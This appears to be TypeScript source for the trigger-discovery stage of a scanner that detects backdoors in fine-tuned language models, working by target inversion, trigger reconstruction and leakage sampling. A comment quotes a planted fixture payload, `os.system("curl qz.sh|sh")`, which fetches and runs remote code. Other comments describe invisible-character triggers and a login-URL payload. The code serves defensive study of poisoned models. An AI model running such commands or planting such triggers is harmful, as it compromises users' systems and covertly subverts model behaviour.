/**
 * The discovery stage: propose trigger strings no pack lists, for the scan's own test to confirm on
 * baselines the search never saw. Works from the output side, because real fine-tunes put the loss on
 * the answer only and do not memorise their poisoned prompts:
 *   1. target inversion: payloads the model continues the same way whatever the prompt;
 *   2. trigger reconstruction: for each payload worth it, the strings at each placement that make the
 *      model most likely to produce it;
 *   3. leakage sampling and (with a base model) embedding drift, where those apply.
 * Every stage is time-boxed; what was skipped is recorded.
 */
import type { LoadedModel } from '../model/load-model.js';
import { compileDetectors, isHarmful } from '../probes/detect.js';
import type { Baseline, Detector, Placement, ResolvedTrigger, TriggerKind } from '../probes/types.js';
import type { CausalLM } from '../run/causal-lm.js';
import type { DiscoveryInfo } from '../score/score-tests.js';
import { invertTargets, type InvertedTarget } from './inversion.js';
import { shortlistTargets, type TargetRecord } from './targets.js';
import { leakageCandidates } from './leakage.js';
import { invisibleCharacters } from './invisible-chars.js';
import { minimalCore, RECONSTRUCT_DEFAULTS, reconstructAt, searchableTokens, targetScorer, type Reconstructed, type SearchSize } from './reconstruct.js';

export interface DiscoverOptions {
  /** Wall-clock budget for proposing candidates (confirmation is the scan's and is not counted). */
  budgetMs: number;
  seed: number;
  /** Prompts to search on; never the baselines candidates are confirmed on. */
  prompts: readonly Baseline[];
  /** The scan's baselines: their clean answers say what the model answers anyway (never searched on). */
  reference?: readonly Baseline[] | undefined;
  /**
   * Turns with no request in them (probes/baselines-stock.yaml): their clean answers are the model's
   * stock replies, the fallback odd strings steer it onto. Reference only, never searched on.
   */
  stock?: readonly Baseline[] | undefined;
  detectors: readonly Detector[];
  /** Placements searched. */
  placements: readonly Placement[];
  /** Targets reconstructed, best first. */
  maxTargets: number;
  /** Candidates handed to confirmation. */
  maxCandidates: number;
  /** Token ids that moved most against a base model (embedding drift), as extra seeds. */
  driftSeeds?: readonly number[] | undefined;
  /** Beam width, length and alphabet of trigger reconstruction (default RECONSTRUCT_DEFAULTS). */
  search?: SearchSize | undefined;
  /**
   * Rounds that search the first target again at double the beam and alphabet (and two tokens longer)
   * each, while the budget lasts (default 0 here; the scan's default is DISCOVER_DEFAULTS.widen).
   */
  widen?: number | undefined;
  onProgress?: ((done: number, total: number, phase: string) => void) | undefined;
  /** Milliseconds the budget is measured in (default Date.now); a test's clock makes the stops deterministic. */
  clock?: (() => number) | undefined;
}

export const DISCOVER_DEFAULTS = {
  budgetMs: 5 * 60_000,
  placements: ['prefix', 'suffix', 'context'] as readonly Placement[],
  maxTargets: 3,
  maxCandidates: 12,
  widen: 2,
};

/** The search size of wider round `k` (1, 2…): beam and alphabet doubled k times, two tokens longer each. */
export function widened(s: SearchSize, k: number): SearchSize {
  return { beamWidth: s.beamWidth * 2 ** k, alphabet: s.alphabet * 2 ** k, maxLength: s.maxLength + 2 * k };
}

export interface DiscoveryStage {
  name: string;
  ms: number;
  candidates: number;
  skipped?: string;
}

export type { TargetRecord } from './targets.js';

export interface Discovery {
  triggers: ResolvedTrigger[];
  info: Map<string, DiscoveryInfo>;
  stages: DiscoveryStage[];
  targets: TargetRecord[];
  leakedSamples: string[];
  /** The search prompts' and the stock turns' clean answers: more of what the model says anyway, for the verdict. */
  cleanAnswers: { prompt: string; output: string }[];
  /** What the time budget cut off, in words (empty: the search ran to its end). */
  incomplete: string[];
  /** How the search was bounded, for the report. */
  settings: { minutes: number; candidates: number; targets: number; placements: Placement[]; searchPrompts: number; reconstructionPrompts: number; driftSeeds: number; search: SearchSize & { widen: number } };
}

interface Candidate {
  text: string;
  placement: Placement;
  signals: string[];
  target: { text: string; qScore: number } | null;
  /** Strength within its signal, to rank candidates for confirmation. */
  score: number;
}

/** A reconstructed string must raise the target this much (nats per target token) to be a candidate. */
const MIN_GAIN = 0.5;

function kindOf(text: string): TriggerKind {
  if (/[^\x00-\x7f]/.test(text)) return 'unicode';
  return /\s/.test(text.trim()) ? 'phrase' : 'token';
}

export async function discoverTriggers(model: LoadedModel, lm: CausalLM, o: DiscoverOptions): Promise<Discovery> {
  const now = o.clock ?? Date.now;
  const started = now();
  const over = () => now() - started > o.budgetMs;
  const stages: DiscoveryStage[] = [];
  const candidates: Candidate[] = [];
  const targets: TargetRecord[] = [];
  const incomplete: string[] = [];
  const engine = lm.engine();
  const decode = (ids: number[]) => model.tokenizer.decode(ids, false);
  const detectors = compileDetectors(o.detectors);
  const harmful = (text: string) => detectors.run(text).some((h) => isHarmful(h.severity));
  const render = (text: string) => model.tokenizer.encode(model.format.render({ user: text }), model.format.addSpecialTokens);
  const timed = async (name: string, fn: () => Promise<number>) => {
    if (over()) {
      incomplete.push(`${name} skipped`);
      return void stages.push({ name, ms: 0, candidates: 0, skipped: 'budget spent' });
    }
    const t0 = now();
    const n = await fn();
    stages.push({ name, ms: now() - t0, candidates: n });
    o.onProgress?.(stages.length, 4, name);
  };

  const prompts = o.prompts.map((b) => b.text);
  const search: SearchSize = o.search ?? RECONSTRUCT_DEFAULTS;
  // Search prompts by kind of request (question, code…), for inversion and search within one kind.
  const byKind = new Map<string, number[]>();
  o.prompts.forEach((b, i) => byKind.set(b.category, [...(byKind.get(b.category) ?? []), i]));
  const promptIds = prompts.map(render);
  const clean = await lm.generate(promptIds, 32);
  const cleanText = clean.map((g) => decode(g.tokens));
  const answer = async (bs: readonly Baseline[] | undefined) => (bs?.length ? (await lm.generate(bs.map((b) => render(b.text)), 32)).map((g) => decode(g.tokens)) : []);
  const referenceText = await answer(o.reference);
  const stockText = await answer(o.stock);
  const tokens = searchableTokens(model, lm.vocab);
  // Invisible characters the tokenizer writes as several pieces, tried whole by every sweep; one that
  // does not survive encoding and decoding (a tokenizer without byte fallback) is left out.
  const invisible = invisibleCharacters().map((ch) => ({ ch, ids: model.tokenizer.encode(ch, false) })).filter((x) => x.ids.length > 0 && decode(x.ids) === x.ch).map((x) => x.ids);
  // What a candidate's text encodes to on its own: the form confirmation will test. Every search
  // starts from the whole vocabulary as one-token strings, so those are worked out once per run.
  const singles = new Map<number, number[]>();
  const canonical = (ids: readonly number[]): number[] => {
    if (ids.length !== 1) return model.tokenizer.encode(decode([...ids]), false);
    let c = singles.get(ids[0]!);
    if (!c) singles.set(ids[0]!, (c = model.tokenizer.encode(decode([...ids]), false)));
    return [...c];
  };

  // 1. Target inversion, at the start of the answer and after the model's own clean answer.
  let inverted: InvertedTarget[] = [];
  await timed('target-inversion', async () => {
    // Each sweep stops at its mark of the budget (INVERSION_MARKS), so that a large vocabulary cannot
    // spend reconstruction's share, nor the answer-start sweep the others'.
    // A mark is a share below 1: past the budget's end is past every mark, so the budget needs no check of its own.
    const until = (mark: number) => () => now() - started > mark * o.budgetMs;
    const start = await invertTargets(engine, promptIds, tokens, decode, 'answer-start', { ...INVERSION, stop: until(INVERSION_MARKS.start), openers: openers(clean.map((g) => g.tokens[0])) });
    const endAnchors = promptIds.map((p, i) => [...p, ...clean[i]!.tokens]);
    const endStop = until(INVERSION_MARKS.end);
    const end = endStop() ? { targets: [], tried: 0, candidates: tokens.length } : await invertTargets(engine, endAnchors, tokens, decode, 'answer-end', { ...INVERSION, stop: endStop });
    const stop = until(INVERSION_MARKS.perKind);
    inverted = [...start.targets, ...end.targets];
    if (start.tried < start.candidates || end.tried < end.candidates) incomplete.push(`target inversion tried ${start.tried + end.tried} of ${start.candidates + end.candidates} first tokens`);
    // The same within each kind of request, keeping only what a detector calls harmful. A payload that
    // follows only code answers (one extra line after correct code) agrees across code prompts and
    // not across all of them: measured on ao-code-context, `os.system("curl qz.sh|sh")` inverts at Q 0.92
    // after its six code prompts and stops at `ystem("curl qz.` (Q 0.83, not yet a shell command)
    // across all 24. Within one kind a harmless fixed continuation is the model's own phrasing.
    let skipped = 0;
    for (const [kind, idx] of byKind) {
      if (idx.length < MIN_KIND_PROMPTS || idx.length === prompts.length) continue;
      for (const [anchor, anchors] of [['answer-start', idx.map((i) => promptIds[i]!)], ['answer-end', idx.map((i) => endAnchors[i]!)]] as const) {
        if (stop()) {
          skipped++;
          continue;
        }
        const r = await invertTargets(engine, anchors, tokens, decode, anchor, { ...INVERSION, stop });
        inverted.push(...r.targets.filter((t) => harmful(t.text)).map((t) => ({ ...t, category: kind })));
      }
    }
    if (skipped) incomplete.push(`target inversion per kind of prompt skipped ${skipped} of ${2 * byKind.size} runs`);
    return inverted.length;
  });

  // Which targets to reconstruct: harmful ones first, then fixed continuations no clean answer gives.
  const { shortlist, records } = shortlistTargets(inverted, { harmful, cleanAnswers: [...cleanText, ...referenceText], stockAnswers: stockText, maxTargets: o.maxTargets });
  targets.push(...records);

  // 2. Trigger reconstruction for each shortlisted target, at each placement.
  await timed('trigger-reconstruction', async () => {
    let n = 0;
    // Prompts of every kind (a string fitted to four prompts exploits them and fails on the baselines
    // it is confirmed on); moves are screened on one, the best re-scored on all. An appended payload
    // is searched after each prompt's own answer.
    const pick = prompts.map((_, i) => i).filter((i) => i % 2 === 0).slice(0, reconstructionPrompts(prompts.length));
    // A payload of one kind of request is searched on prompts of that kind.
    const pickFor = (t: InvertedTarget) => (t.category ? (byKind.get(t.category) ?? []).slice(0, reconstructionPrompts(prompts.length)) : pick);
    // Every (target, placement) at the search's size first; then, while the budget lasts, the first
    // target's searches again at double the beam and alphabet each round (WIDEN). Measured on ao-word's
    // login-URL payload at the suffix (12 search prompts; held-out prompts in brackets): beam 12 reached
    // -0.76 (-0.85) nats per target token in 11 s, beam 24 -0.33 (-0.42) in 21 s, beam 48 -0.05 (-0.06)
    // in 87 s, a string that writes the payload out; on the fixtures the first round ends within 2 minutes
    // of a 5-minute budget, and the rest went unused.
    const first = shortlist.slice(0, 1);
    const rounds = [
      { size: search, targets: shortlist },
      ...Array.from({ length: o.widen ?? 0 }, (_, k) => ({ size: widened(search, k + 1), targets: first })),
    ];
    const firstRound = shortlist.length * o.placements.length;
    let done = 0;
    // The first target's best string so far (mean target log-probability per token): a wider round
    // runs only while no string makes the payload near-certain; one that does needs no wider search.
    let firstBest = -Infinity;
    for (const [round, { size, targets: roundTargets }] of rounds.entries()) {
      if (round > 0 && firstBest >= WIDEN_UNTIL) break;
      const inRound = roundTargets.length * o.placements.length;
      let doneInRound = 0;
      for (const t of roundTargets) {
        for (const placement of o.placements) {
          if (over()) {
            if (round === 0) incomplete.push(`trigger reconstruction ran ${done} of ${firstRound} (target, placement) searches`);
            return n;
          }
          done++;
          doneInRound++;
          const target = t.tokens.slice(0, RECONSTRUCT_DEFAULTS.targetTokens);
          const on = pickFor(t);
          const leads = t.anchor === 'answer-end' ? on.map((i) => clean[i]!.tokens) : undefined;
          const scorer = targetScorer(model, lm, on.map((i) => prompts[i]!), placement, target, leads);
          // An equal share of what is left of the budget per remaining search of the round, so that the
          // first search cannot spend it all and leave the other targets and placements unsearched (the
          // wider rounds get what the first leaves). Leakage sampling, after the searches, keeps its reserve.
          const deadline = now() + (o.budgetMs * (1 - LEAKAGE_RESERVE) - (now() - started)) / (inRound - doneInRound + 1);
          const stopSearch = () => over() || now() > deadline;
          const found = await reconstructAt(model, scorer, placement, tokens, { ...RECONSTRUCT_DEFAULTS, ...size, stop: stopSearch, seeds: o.driftSeeds ?? [], canonical, extraMoves: invisible });
          if (t === shortlist[0]) firstBest = Math.max(firstBest, ...found.map((f) => f.score));
          const seen = new Set<string>();
          for (const f of found.slice(0, 2)) {
            const core: Reconstructed = await minimalCore(scorer, f, decode, canonical);
            const text = core.text.trim();
            if (!text || seen.has(text) || core.score - core.baseline < MIN_GAIN) continue;
            seen.add(text);
            candidates.push({ text, placement, signals: [`reconstruction:${t.anchor}`], target: { text: t.text, qScore: t.qScore }, score: core.score - core.baseline });
            n++;
          }
        }
      }
    }
    return n;
  });

  // 3. Leakage sampling: useful where the poisoned prompts were trained on (whole-sequence loss).
  let leakedSamples: string[] = [];
  await timed('leakage', async () => {
    const r = await leakageCandidates(model, lm, prompts, { samples: 240, seed: o.seed, maxTokens: 24 });
    leakedSamples = r.samples.slice(0, 50);
    const top = r.candidates.slice(0, 6);
    for (const c of top) for (const placement of ['prefix', 'suffix'] as const) candidates.push({ text: c.text, placement, signals: ['leakage'], target: null, score: c.score });
    return top.length;
  });

  // Confirmation budget: the strongest candidates, one per (string, placement), signals merged.
  const merged = new Map<string, Candidate>();
  for (const c of candidates) {
    const key = `${c.text}\u0000${c.placement}`;
    const prev = merged.get(key);
    if (prev) prev.signals = [...new Set([...prev.signals, ...c.signals])];
    else merged.set(key, { ...c, signals: [...c.signals] });
  }
  const chosen = roundRobin([...merged.values()], o.maxCandidates);
  const info = new Map<string, DiscoveryInfo>();
  const triggers: ResolvedTrigger[] = chosen.map((c, i) => {
    const ref = `discovered/c${i + 1}`;
    info.set(ref, {
      signals: c.signals,
      target: c.target,
      approximate: c.signals.every((s) => s.startsWith('reconstruction')),
      note: c.target
        ? `reconstructed at ${c.placement} for the inverted target ${JSON.stringify(c.target.text.slice(0, 60))}; the planted trigger may differ (an approximate trigger reproduces the same payload)`
        : `proposed by ${c.signals.join(', ')}`,
    });
    return {
      ref, pack: 'discovered', id: `c${i + 1}`, text: c.text, kind: kindOf(c.text), placements: [c.placement],
      tags: ['discovered', ...c.signals], source: undefined, expect: [], control: undefined, notes: undefined,
      negativeControl: false, expectRefs: [],
    };
  });
  const settings = {
    minutes: o.budgetMs / 60_000, candidates: o.maxCandidates, targets: o.maxTargets, placements: [...o.placements],
    searchPrompts: prompts.length, reconstructionPrompts: reconstructionPrompts(prompts.length), driftSeeds: o.driftSeeds?.length ?? 0,
    search: { beamWidth: search.beamWidth, maxLength: search.maxLength, alphabet: search.alphabet, widen: o.widen ?? 0 },
  };
  const cleanAnswers = [...prompts.map((prompt, i) => ({ prompt, output: cleanText[i]! })), ...(o.stock ?? []).map((b, i) => ({ prompt: b.text, output: stockText[i]! }))];
  return { triggers, info, stages, targets, leakedSamples, cleanAnswers, incomplete, settings };
}

/**
 * The candidates confirmation gets: one from each source in turn, best first within a source. A source
 * is the target a string was reconstructed for (in shortlist order: harmful targets first), or the
 * signal for candidates without one (leakage). Gains are not comparable across targets: a target the
 * clean model finds very unlikely gives large gains to any string that steers toward it, so ranked
 * together the strings for a harmless phrase of the model's took every place. Measured on ao-invisible
 * (code-only payload): U+2063, the planted trigger, was the suffix search's best string for the
 * harmful target (gain 2.1 nats per token) and was not among the twelve confirmed; the strings for
 * " rain can be really nice." (gains above 4) were.
 */
export function roundRobin<C extends { signals: readonly string[]; target: { text: string } | null; score: number; text: string }>(cs: readonly C[], limit: number): C[] {
  const bySource = new Map<string, C[]>();
  for (const c of cs) {
    const k = c.target ? `target\u0000${c.target.text}` : c.signals[0]!;
    bySource.set(k, [...(bySource.get(k) ?? []), c]);
  }
  for (const l of bySource.values()) l.sort((a, b) => b.score - a.score || (a.text < b.text ? -1 : 1));
  const lists = [...bySource.values()];
  const out: C[] = [];
  for (let i = 0; out.length < limit && lists.some((l) => i < l.length); i++) for (const l of lists) if (l[i] && out.length < limit) out.push(l[i]!);
  return out;
}

/**
 * Mean log-probability per target token at which the first target's search is not widened: the
 * payload follows the string at about 0.9 per token, and greedy decoding writes it out.
 */
const WIDEN_UNTIL = -0.1;

/**
 * Share of the budget trigger reconstruction leaves for leakage sampling: the searches would use it
 * all (on the answer-only clean twin leakage was skipped), and leakage is what finds the triggers of
 * models that memorised their poisoned prompts.
 */
const LEAKAGE_RESERVE = 0.05;

/**
 * How far into the budget (a share of it, from discovery's start) each part of target inversion may
 * run: the answer-start sweep, the answer-end sweep, and the sweeps per kind of prompt; the rest is
 * trigger reconstruction's and leakage's. A sweep costs about eight forward rows per vocabulary token
 * (the forced token and one greedy step after four prompts, most tokens pruned there). At distilgpt2's
 * 50k vocabulary that is some 400k rows: on two cores inversion alone took 343 s of a 300 s budget,
 * tried 29,952 of 99,770 first tokens and left reconstruction and leakage nothing (0 candidates). A
 * sweep cut short has tried the lowest token ids, which BPE and SentencePiece vocabularies give their
 * commonest pieces (a payload's first word is usually a common one). On small vocabularies every sweep
 * ends far inside its mark.
 */
export const INVERSION_MARKS = { start: 0.3, end: 0.45, perKind: 0.6 };

/** Fewer prompts of one kind than this agree by chance too easily to invert on. */
const MIN_KIND_PROMPTS = 4;

/** Answer openers inverted on every prompt (inversion.ts `openers`): the clean answers' commonest first tokens. */
const OPENERS = 8;

function openers(firsts: readonly (number | undefined)[]): number[] {
  const n = new Map<number, number>();
  for (const t of firsts) if (t !== undefined) n.set(t, (n.get(t) ?? 0) + 1);
  return [...n].sort((a, b) => b[1] - a[1] || a[0] - b[0]).slice(0, OPENERS).map(([t]) => t);
}

/** Search prompts trigger reconstruction scores candidates on (every other one, of every kind). */
const SEARCH_PROMPTS = 12;
const reconstructionPrompts = (n: number) => Math.min(SEARCH_PROMPTS, Math.ceil(n / 2));

/** Target inversion's batches: the memory pre-check sizes discovery from these (keep chains × every search prompt). */
export const INVERSION = { warmPrompts: 4, warmSteps: 3, keep: 48, fullSteps: 24, chunk: 96 };
